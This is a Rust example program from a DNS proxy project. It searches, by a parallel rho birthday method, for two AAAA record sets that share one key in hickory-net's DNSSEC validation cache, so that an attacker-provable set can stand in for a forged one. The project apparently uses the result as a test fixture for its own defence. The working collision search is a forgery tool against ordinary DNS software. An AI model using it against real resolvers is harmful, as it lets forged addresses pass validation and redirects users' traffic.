//! Finds two AAAA RRsets that hickory-net 0.26.3's DNSSEC validation cache
//! cannot tell apart: the same 64-bit cache key under one query, different
//! data. This is the attack `proxy::proof_ledger` stops; the pair found
//! here is the fixture of its tests, which also show that hickory itself
//! is fooled by it.
//!
//!     cargo run --release --example proof_key_collision
//!     cargo run --release --example proof_key_collision -- www.signed.lab. x.unsigned.lab. www.signed.lab.
//!
//! The arguments are the query name (type AAAA), the owner of the RRset an
//! attacker can have proven, and the owner of the forgery (by default the
//! unit tests' `www.example.`, `x.insecure.example.`, `www.example.`).
//!
//! The key (hickory's `RrsetVerificationContext::key`) is a `DefaultHasher`
//! (SipHash-1-3 with fixed keys) over the query and the RRset, so a
//! birthday search needs about 2^33 hashes: a few minutes on two cores.
//! It is a parallel rho search with distinguished points (van Oorschot and
//! Wiener): walks of `step` run until a point with `DP_BITS` low zero bits,
//! and two walks that end on one such point hold a collision.

use std::collections::{hash_map::DefaultHasher, HashMap};
use std::hash::{Hash, Hasher};
use std::net::Ipv6Addr;
use std::sync::{Arc, Mutex};
use std::time::Instant;

use hickory_proto::rr::{rdata::AAAA, DNSClass, Name, RData, RecordType};

/// The two shapes' address prefixes: the RRset an attacker can have proven
/// (an unsigned name in an insecure zone), and the forgery for the query's
/// own name.
const PREFIXES: [[u16; 4]; 2] = [[0x2001, 0xdb8, 0x1, 0], [0x2001, 0xdb8, 0x666, 0]];
const DP_BITS: u32 = 24;

/// The key's state before the one record's data, for each shape's owner.
fn prefixes(qname: &str, owners: &[String; 2]) -> [DefaultHasher; 2] {
    owners.clone().map(|owner| {
        let owner = Name::from_ascii(owner).unwrap();
        let mut h = DefaultHasher::new();
        Name::from_ascii(qname).unwrap().hash(&mut h);
        DNSClass::IN.hash(&mut h);
        RecordType::AAAA.hash(&mut h);
        owner.hash(&mut h);
        DNSClass::IN.hash(&mut h);
        RecordType::AAAA.hash(&mut h);
        owner.hash(&mut h);
        DNSClass::IN.hash(&mut h);
        h
    })
}

/// The address of point `s`: the low bit picks the shape, all 64 bits are
/// the interface identifier.
fn address(s: u64) -> (usize, Ipv6Addr) {
    let shape = (s & 1) as usize;
    let [a, b, c, d] = PREFIXES[shape];
    let iid = [(s >> 48) as u16, (s >> 32) as u16, (s >> 16) as u16, s as u16];
    (shape, Ipv6Addr::new(a, b, c, d, iid[0], iid[1], iid[2], iid[3]))
}

fn step(prefixes: &[DefaultHasher; 2], s: u64) -> u64 {
    let (shape, ip) = address(s);
    let mut h = prefixes[shape].clone();
    RData::AAAA(AAAA(ip)).hash(&mut h);
    h.finish()
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (qname, owners) = match args.as_slice() {
        [] => ("www.example.".to_string(), ["x.insecure.example.".to_string(), "www.example.".to_string()]),
        [q, a, b] => (q.clone(), [a.clone(), b.clone()]),
        _ => {
            eprintln!("usage: proof_key_collision [QNAME ATTACKER_OWNER FORGED_OWNER]");
            std::process::exit(64);
        }
    };
    let started = Instant::now();
    let prefixes = Arc::new(prefixes(&qname, &owners));
    let ends: Arc<Mutex<HashMap<u64, (u64, u64)>>> = Arc::default();
    let found: Arc<Mutex<Option<(u64, u64)>>> = Arc::default();
    let threads = std::thread::available_parallelism().map_or(2, |n| n.get());
    let workers: Vec<_> = (0..threads)
        .map(|t| {
            let (prefixes, ends, found) = (prefixes.clone(), ends.clone(), found.clone());
            std::thread::spawn(move || {
                let mut seed = rand::random::<u64>() ^ t as u64;
                while found.lock().unwrap().is_none() {
                    seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                    let (start, mut x, mut len) = (seed, seed, 0u64);
                    while x & ((1 << DP_BITS) - 1) != 0 && len < 40 << DP_BITS {
                        x = step(&prefixes, x);
                        len += 1;
                    }
                    if x & ((1 << DP_BITS) - 1) != 0 {
                        continue; // a cycle without a distinguished point
                    }
                    let other = ends.lock().unwrap().insert(x, (start, len));
                    let Some((start2, len2)) = other else { continue };
                    if let Some(pair) = locate(&prefixes, (start, len), (start2, len2)) {
                        if address(pair.0).0 != address(pair.1).0 {
                            *found.lock().unwrap() = Some(pair);
                        } else {
                            eprintln!("a collision within one shape ({:#x}, {:#x}); searching on", pair.0, pair.1);
                        }
                    }
                }
            })
        })
        .collect();
    for w in workers {
        w.join().unwrap();
    }
    let (u, v) = found.lock().unwrap().unwrap();
    let (su, iu) = address(u);
    let (sv, iv) = address(v);
    println!("key {:#018x} after {:.0} s, {} distinguished points", step(&prefixes, u), started.elapsed().as_secs_f64(), ends.lock().unwrap().len());
    println!("query {qname} AAAA");
    println!("{} AAAA {iu}", owners[su]);
    println!("{} AAAA {iv}", owners[sv]);
}

/// Two walks that end on one distinguished point: walks them in step from
/// the same distance to the end, and returns the two points whose next
/// points are equal (none if one start lies on the other's path).
fn locate(prefixes: &[DefaultHasher; 2], (mut a, la): (u64, u64), (mut b, lb): (u64, u64)) -> Option<(u64, u64)> {
    for _ in lb..la {
        a = step(prefixes, a);
    }
    for _ in la..lb {
        b = step(prefixes, b);
    }
    while a != b {
        let (na, nb) = (step(prefixes, a), step(prefixes, b));
        if na == nb {
            return Some((a, b));
        }
        (a, b) = (na, nb);
    }
    None
}
